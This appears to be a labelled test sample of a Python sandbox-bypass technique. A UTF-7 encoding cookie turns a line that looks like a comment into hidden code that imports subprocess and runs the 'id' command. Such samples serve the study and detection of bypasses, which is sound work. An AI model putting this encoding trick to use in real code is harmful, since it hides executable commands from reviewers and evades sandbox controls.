# vim: set fileencoding=utf_7 :
# Source: https://book.hacktricks.xyz/generic-methodologies-and-resources/python/bypass-python-sandboxes (UTF-7 section); PEP 263 cookie regex coding[=:]
# Family: source-encoding
# What: utf_7 declared through an Emacs/vim style 'fileencoding=' cookie, payload imports subprocess
x = 1
#+AAo-import subprocess+AAo-subprocess.run(+AFs-+ACI-id+ACI-+AF0-)
print(x)
